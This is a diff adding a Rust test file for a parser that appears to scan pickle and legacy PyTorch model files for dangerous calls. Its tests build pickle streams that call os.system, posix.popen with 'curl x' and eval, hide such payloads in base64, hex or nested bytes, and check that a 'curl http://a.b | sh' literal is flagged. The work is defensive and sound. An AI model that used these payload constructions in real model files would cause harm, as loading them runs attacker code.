@@ -1,0 +1,413 @@
+//! What the machine must see, opcode by opcode, and what no input may make it do.
+
+use proptest::prelude::*;
+
+use super::streams::walk;
+use super::*;
+use crate::bounded::{Budget, Exhausted, Limits};
+use crate::build::pickle::{Assembler, legacy_torch};
+use crate::build::short::Short;
+use crate::format::Format;
+use crate::identify::identify;
+use crate::node::{Facts, Fault, GapReason, Parsed, Strength};
+use crate::source::{Memory, SharedSource};
+
+fn read(bytes: &[u8]) -> Parsed {
+    parse(&Memory::shared(bytes.to_vec()), "sample", &Budget::default())
+}
+
+fn facts(parsed: &Parsed) -> &PickleFacts {
+    match &parsed.reading.facts {
+        Facts::Pickle(facts) => facts,
+        other => panic!("not a pickle: {other:?}"),
+    }
+}
+
+fn clean(bytes: &[u8]) -> PickleFacts {
+    let parsed = read(bytes);
+    assert_eq!(parsed.reading.irregularities, []);
+    assert_eq!(parsed.gaps, []);
+    assert_eq!(parsed.reading.claims.unexplained(bytes.len() as u64), []);
+    match parsed.reading.facts {
+        Facts::Pickle(facts) => *facts,
+        other => panic!("not a pickle: {other:?}"),
+    }
+}
+
+fn globals(facts: &PickleFacts) -> Vec<String> {
+    facts.globals.iter().map(|global| global.name.to_string()).collect()
+}
+
+#[test]
+fn a_call_is_seen_in_every_protocol() {
+    for protocol in 0..=5 {
+        let facts = clean(&Assembler::new(protocol).reduce("os", "system", &["id"]).finish());
+        assert_eq!(globals(&facts), ["os.system"], "protocol {protocol}");
+        assert!(facts.globals[0].uses.called);
+        assert_eq!(facts.calls.len(), 1);
+        assert_eq!(facts.calls[0].arguments, [Shape::Text { head: "id".to_owned(), len: 2 }]);
+        assert!(facts.calls[0].constant_arguments);
+        assert_eq!(
+            facts.streams[0].protocol,
+            if protocol < 2 { facts.streams[0].protocol } else { protocol }
+        );
+        assert_eq!(facts.literals[0].text, "id");
+    }
+}
+
+#[test]
+fn operands_of_stack_global_come_from_the_memo() {
+    let stream = Assembler::new(4).text("system").memoize().pop().text("os").put(7).pop();
+    let facts =
+        clean(&stream.get(7).get(0).stack_global_opcode().text("id").tuple1().reduce_opcode().finish());
+    assert_eq!(globals(&facts), ["os.system"]);
+}
+
+#[test]
+fn computed_operands_are_unresolved() {
+    let stream = Assembler::new(4).text("os").reduce("builtins", "str", &["system"]).stack_global_opcode();
+    let facts = clean(&stream.empty_tuple().reduce_opcode().finish());
+    assert_eq!(facts.unresolved.len(), 2);
+    assert_eq!(facts.unresolved[0].opcode, "STACK_GLOBAL");
+    assert_eq!(facts.calls.last().unwrap().callee, Shape::Unknown);
+}
+
+#[test]
+fn a_popped_result_stays_in_the_log() {
+    let facts = clean(&Assembler::new(2).reduce("os", "system", &["id"]).pop().none().finish());
+    assert_eq!(facts.calls[0].opcode, CallOpcode::Reduce);
+    assert_eq!(facts.streams[0].result, Shape::None);
+}
+
+#[test]
+fn inst_obj_newobj_and_extensions_are_calls() {
+    let inst = clean(&Assembler::new(0).mark().text("id").inst("os", "system").finish());
+    assert_eq!((inst.calls[0].opcode, inst.globals[0].uses.called), (CallOpcode::Inst, true));
+    let obj = clean(&Assembler::new(1).mark().global("os", "system").text("id").obj().finish());
+    assert_eq!((obj.calls[0].opcode, obj.calls[0].arguments.len()), (CallOpcode::Obj, 1));
+    let new = clean(&Assembler::new(2).global("m", "C").empty_tuple().newobj().finish());
+    assert!(new.globals[0].uses.constructed && !new.globals[0].uses.called);
+    let new = clean(&Assembler::new(4).import("m", "C").empty_tuple().empty_dict().newobj_ex().finish());
+    assert_eq!(new.calls[0].opcode, CallOpcode::NewObjEx);
+    let ext = clean(&Assembler::new(2).extension(70_000).empty_tuple().reduce_opcode().finish());
+    assert_eq!(ext.extensions[0].code, 70_000);
+    assert_eq!(ext.unresolved.len(), 1);
+}
+
+#[test]
+fn state_on_an_instance_builds_and_on_an_import_patches() {
+    let built =
+        clean(&Assembler::new(2).global("m", "C").empty_tuple().newobj().empty_dict().build().finish());
+    assert!(built.globals[0].uses.built && !built.globals[0].uses.patched);
+    let patched = clean(&Assembler::new(2).global("m", "C").empty_dict().build().finish());
+    assert!(patched.globals[0].uses.patched && !patched.globals[0].uses.built);
+    let item = Assembler::new(2).global("os", "environ").text("PATH").text("/tmp").setitem();
+    assert!(clean(&item.finish()).globals[0].uses.patched);
+}
+
+#[test]
+fn items_for_an_instance_are_calls_of_its_methods() {
+    let object = || Assembler::new(4).import("m", "C").empty_tuple().newobj();
+    for (stream, opcode) in [
+        (object().none().append(), CallOpcode::Append),
+        (object().mark().none().appends(), CallOpcode::Append),
+        (object().mark().none().none().setitems(), CallOpcode::SetItem),
+        (object().mark().none().additems(), CallOpcode::AddItems),
+    ] {
+        let facts = clean(&stream.finish());
+        assert!(facts.globals[0].uses.filled);
+        assert_eq!(facts.calls.last().unwrap().opcode, opcode);
+    }
+    let list = clean(&Assembler::new(4).empty_list().import("m", "C").append().finish());
+    assert!(list.globals[0].uses.passed && list.calls.is_empty());
+}
+
+#[test]
+fn the_result_of_a_call_can_be_called() {
+    let attribute = Assembler::new(2).reduce("builtins", "getattr", &["x", "y"]);
+    let facts = clean(&attribute.text("id").tuple1().reduce_opcode().finish());
+    assert!(matches!(&facts.calls[1].callee, Shape::Instance(name) if name.name == "getattr"));
+}
+
+#[test]
+fn texts_of_calls_are_told_apart() {
+    let stream = Assembler::new(4).reduce("builtins", "getattr", &["a", "harmless"]).pop();
+    let facts = clean(&stream.reduce("builtins", "getattr", &["a", "system"]).finish());
+    assert_eq!(facts.calls.len(), 2);
+    let same = (0..5).fold(Assembler::new(4).none(), |all, _| all.pop().reduce("m", "f", &["a"]));
+    let facts = clean(&same.finish());
+    assert_eq!((facts.calls.len(), facts.calls[0].count, facts.globals[0].count), (1, 5, 5));
+}
+
+#[test]
+fn names_of_python_2_are_canonical_in_every_protocol() {
+    for protocol in [0, 2, 4] {
+        let facts = clean(&Assembler::new(protocol).reduce("__builtin__", "eval", &["1"]).finish());
+        assert_eq!(globals(&facts), ["builtins.eval"]);
+        assert_eq!(facts.globals[0].written.as_ref().unwrap().module, "__builtin__");
+    }
+    let old = clean(&Assembler::new(2).reduce("commands", "getoutput", &["id"]).finish());
+    assert_eq!(globals(&old), ["subprocess.getoutput"]);
+    let own = clean(&Assembler::new(4).reduce("commands", "Mine", &["id"]).finish());
+    assert_eq!(globals(&own), ["commands.Mine"]);
+    let dotted = clean(&Assembler::new(4).reduce("torch", "serialization.os.system", &["id"]).finish());
+    assert_eq!(dotted.globals[0].name.name, "serialization.os.system");
+}
+
+#[test]
+fn effects_before_a_break_are_reported() {
+    for broken in [
+        Assembler::new(0).reduce("os", "system", &["id"]).raw(b"\xffjunk").truncated_after(),
+        Assembler::new(2).reduce("os", "system", &["id"]).get(99).finish(),
+        Assembler::new(4).reduce("os", "system", &["id"]).truncated_after(),
+        Assembler::new(4).reduce("os", "system", &["id"]).pop().pop().finish(),
+    ] {
+        let parsed = read(&broken);
+        assert_eq!(globals(facts(&parsed)), ["os.system"]);
+        assert!(facts(&parsed).globals[0].uses.called);
+        assert!(parsed.gaps.iter().any(|gap| gap.reason == GapReason::Damaged));
+        assert!(!parsed.reading.irregularities.is_empty());
+        let found = identify("weights.txt", &Memory::shared(broken));
+        assert!(found.iter().any(|candidate| candidate.format == Format::Pickle), "{found:?}");
+    }
+}
+
+#[test]
+fn an_import_cut_by_the_end_is_seen() {
+    let parsed = read(b"cantigravity\nnowx");
+    assert_eq!(globals(facts(&parsed)), ["antigravity.now"]);
+}
+
+#[test]
+fn streams_behind_one_another_and_behind_junk_are_read() {
+    let mut file = Assembler::new(2).none().finish();
+    file.extend(Assembler::new(4).reduce("os", "system", &["a"]).finish());
+    let two = clean(&file);
+    assert_eq!((two.streams.len(), globals(&two)), (2, vec!["os.system".to_owned()]));
+    for payload in [
+        Assembler::new(4).reduce("posix", "system", &["b"]).finish(),
+        Assembler::new(0).reduce("posix", "system", &["b"]).finish(),
+        Assembler::new(4).reduce("posix", "system", &["b"]).finish()[2..].to_vec(),
+    ] {
+        let mut file = Assembler::new(2).none().finish();
+        file.extend(b"\0\x01\xffjunk in between\xfe");
+        let junk = 3..file.len() as u64;
+        file.extend(&payload);
+        let parsed = read(&file);
+        assert!(globals(facts(&parsed)).contains(&"posix.system".to_owned()), "{payload:?}");
+        assert!(!parsed.reading.claims.unexplained(file.len() as u64).is_empty(), "{junk:?}");
+    }
+}
+
+#[test]
+fn payloads_in_constants_become_children() {
+    use base64::Engine as _;
+    let inner = Assembler::new(4).reduce("os", "system", &["id"]).finish();
+    let old = Assembler::new(0).reduce("os", "system", &["id"]).finish();
+    let base64 = base64::engine::general_purpose::STANDARD.encode(&inner);
+    let hex: String = inner.iter().flat_map(|byte| [byte >> 4, byte & 15]).map(|digit| char::from(b"0123456789abcdef"[usize::from(digit)])).collect();
+    let latin: String = inner.iter().map(|byte| char::from(*byte)).collect();
+    for outer in [
+        Assembler::new(4).bytes(&inner),
+        Assembler::new(4).bytes(&old),
+        Assembler::new(2).bytes(&inner),
+        Assembler::new(0).bytes(&inner),
+        Assembler::new(4).text(&base64),
+        Assembler::new(4).bytes(base64.as_bytes()),
+        Assembler::new(4).text(&hex),
+        Assembler::new(4).text(&latin),
+        Assembler::new(2).binstring(&inner),
+        Assembler::new(4).text(&format!("import pickle; pickle.loads(b64decode('{base64}'))")),
+        Assembler::new(5).bytearray8(&inner),
+    ] {
+        let bytes = outer.finish();
+        let parsed = read(&bytes);
+        assert!(
+            parsed.children.iter().any(|child| child.known == Some(Format::Pickle)),
+            "{}",
+            String::from_utf8_lossy(&bytes)
+        );
+    }
+}
+
+#[test]
+fn random_bytes_are_no_payloads() {
+    let mut state = 1_u64;
+    let mut next = || {
+        state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
+        (state >> 33) as u8
+    };
+    let mut children = 0;
+    for _ in 0..3000 {
+        let content: Vec<u8> = (0..400).map(|_| next()).collect();
+        children += read(&Assembler::new(4).bytes(&content).finish()).children.len();
+    }
+    assert!(children <= 2, "{children}");
+}
+
+#[test]
+fn literals_show_commands_and_addresses_but_not_words() {
+    let striking = clean(&Assembler::new(4).text("curl http://a.b | sh").finish());
+    assert_eq!(striking.literals.len(), 1);
+    for plain in ["layers.0.self_attn.q_proj.weight", "a plain sentence.", "2020-01-01 (UTC)", "src/model"] {
+        assert_eq!(clean(&Assembler::new(4).text(plain).finish()).literals, [], "{plain}");
+    }
+}
+
+#[test]
+fn a_legacy_torch_file_is_explained_to_its_last_byte() {
+    let file = legacy_torch(&[("weight", &[2, 3]), ("bias", &[3])], 7);
+    assert_eq!(identify("x", &Memory::shared(file.clone()))[0].format, Format::TorchLegacy);
+    let parsed = read(&file);
+    assert_eq!(
+        (parsed.reading.format, &parsed.reading.irregularities, &parsed.gaps),
+        (Format::TorchLegacy, &vec![], &vec![])
+    );
+    assert_eq!(parsed.reading.claims.unexplained(file.len() as u64), []);
+    let legacy = facts(&parsed).legacy.as_ref().unwrap();
+    assert_eq!((legacy.protocol_version, legacy.keys.len(), legacy.storages.len()), (Some(1001), 2, 2));
+    assert_eq!((legacy.storages[0].elements, legacy.storages[0].element_size), (6, 4));
+    let cut = read(&file[..file.len() - 1]);
+    assert!(cut.gaps.iter().any(|gap| gap.reason == GapReason::Damaged));
+}
+
+#[test]
+fn loaders_disagree_about_frames_and_the_machine_reads_on() {
+    let parsed = read(&Assembler::new(4).frame(1 << 40).reduce("os", "system", &["id"]).finish());
+    assert_eq!(globals(facts(&parsed)), ["os.system"]);
+    assert!(parsed.reading.irregularities.iter().any(|fault| fault.kind == Fault::Contradiction));
+}
+
+#[test]
+fn what_loaders_refuse_breaks_the_stream() {
+    for broken in [
+        &b"\x80\x06N."[..],
+        b"\x80\x04\x93.",
+        b"\x80\x04K\x01K\x02\x93.",
+        b"(N0.",
+        b"I1x\n.",
+        b"S'abc\n.",
+        b"Vab\\u12\n.",
+        b"X\x02\0\0\0\xff\xfe.",
+        b"\x80\x02}(Nu.",
+        b"(Nd.",
+        b"t.",
+        b"p0\n.",
+        b"\x80\x02\x82\0.",
+        b".",
+    ] {
+        let parsed = read(broken);
+        assert!(matches!(facts(&parsed).streams[0].ending, Ending::Broken(_)), "{broken:?}");
+        assert!(parsed.gaps.iter().any(|gap| gap.reason == GapReason::Damaged), "{broken:?}");
+    }
+}
+
+#[test]
+fn what_loaders_accept_does_not_break_the_stream() {
+    for fine in [
+        &b"I01\n."[..],
+        b"L12345678901234567890123L\n.",
+        b"F1e400\n.",
+        b"S\"it's\\x41\\101\"\n.",
+        b"V\\U0001f600\xe9\n.",
+        b"(0N.",
+        b"(N1N.",
+        b"N2\x86.",
+        b"(lp0\nI1\na.",
+        b"(dp0\nS'a'\nI1\ns.",
+        b"\x80\x05\x96\x01\0\0\0\0\0\0\0a.",
+        b"\x80\x05\x97\x98.",
+        b"X\x03\0\0\0\xed\xa0\x80.",
+        b"\x80\x04\x8f(K\x01\x90.",
+        b"\x80\x04(K\x01\x91.",
+        b"G\0\0\0\0\0\0\0\0.",
+        b"\x8a\0.",
+        b"Pan id\n.",
+        b"(ccollections\nOrderedDict\no.",
+    ] {
+        clean(fine);
+    }
+}
+
+#[test]
+fn text_is_not_mistaken_for_a_pickle() {
+    for text in [
+        "I am a README.",
+        "N.B. read this\n",
+        "car\ncat\ndog\nRabbit\n",
+        "# Title\n\n(see below).",
+        "}",
+        "1\n2\n3.\n",
+    ] {
+        let found = identify("README.txt", &Memory::shared(text.as_bytes().to_vec()));
+        assert!(
+            !found.iter().any(
+                |candidate| candidate.format == Format::Pickle && candidate.strength == Strength::Certain
+            ),
+            "{text}: {found:?}"
+        );
+    }
+    for (protocol, name) in [(0, "notes.txt"), (1, "x.bin"), (2, "model"), (5, "model.png")] {
+        let bytes = Assembler::new(protocol).reduce("os", "system", &["id"]).finish();
+        let found = identify(name, &Memory::shared(bytes));
+        assert_eq!((found[0].format, found[0].strength), (Format::Pickle, Strength::Certain));
+    }
+}
+
+#[test]
+fn deep_nesting_needs_no_recursion() {
+    clean(&Assembler::new(2).nested(1_000_000).finish());
+}
+
+#[test]
+fn bounds_are_gaps() {
+    let limits = Limits { steps: 10_000, ..Limits::default() };
+    let stream = Assembler::new(2).raw(&b"N0".repeat(20_000)).none().finish();
+    let parsed = parse(&Memory::shared(stream), "x", &Budget::new(std::sync::Arc::new(limits)));
+    assert!(parsed.gaps.iter().any(|gap| gap.reason == GapReason::Limit(Exhausted::Steps)));
+    let sparse = (0..300_000_u32).fold(Assembler::new(2).none(), |all, index| {
+        all.raw(b"r").raw(&index.wrapping_mul(2_654_435_761).to_le_bytes())
+    });
+    let parsed = read(&sparse.finish());
+    assert!(parsed.gaps.iter().any(|gap| gap.reason == GapReason::Limit(Exhausted::Facts)));
+}
+
+/// Streams that are mostly sound: pieces in any order, sometimes damaged.
+fn streams() -> impl Strategy<Value = Vec<u8>> {
+    let piece = prop_oneof![
+        Just(Assembler::new(4).reduce("os", "system", &["id"]).finish()),
+        Just(Assembler::new(0).reduce("posix", "popen", &["curl x"]).truncated_after()),
+        Just(Assembler::new(2).torch_state_dict(&[("w", &[2, 2])]).finish()),
+        Just(Assembler::new(2).bytes(&Assembler::new(3).reduce("a", "b", &[]).finish()).finish()),
+        Just(legacy_torch(&[("w", &[3])], 1)),
+        prop::collection::vec(any::<u8>(), 0..40),
+        prop::collection::vec(
+            prop::sample::select(&b"(.012NR]}){tloabesucipgIKX\x80\x81\x8c\x93\x94\x85\n\x01\x04ab"[..]),
+            0..60
+        ),
+    ];
+    prop::collection::vec(piece, 1..5).prop_map(|pieces| pieces.concat())
+}
+
+fn whole(parsed: &Parsed) -> String {
+    format!("{:?} {:?} {:?}", parsed.reading, parsed.gaps, parsed.children)
+}
+
+proptest! {
+    #[test]
+    fn any_chunking_gives_the_same_facts(bytes in streams(), most in 1_usize..9, window in 1_usize..200) {
+        let short: SharedSource = Short::shared(&bytes, most);
+        let budget = Budget::default();
+        prop_assert_eq!(whole(&read(&bytes)), whole(&walk(&short, &budget, window)));
+    }
+
+    #[test]
+    fn a_cut_is_never_silent(bytes in streams(), at in 0_usize..400) {
+        let cut = &bytes[..at.min(bytes.len())];
+        let parsed = read(cut);
+        let explained = parsed.reading.claims.unexplained(cut.len() as u64).is_empty();
+        let stopped = facts(&parsed).streams.iter().all(|stream| stream.ending == Ending::Stop);
+        prop_assert!(stopped || !parsed.gaps.is_empty() || !explained);
+        prop_assert!(stopped || !parsed.gaps.is_empty());
+    }
+}
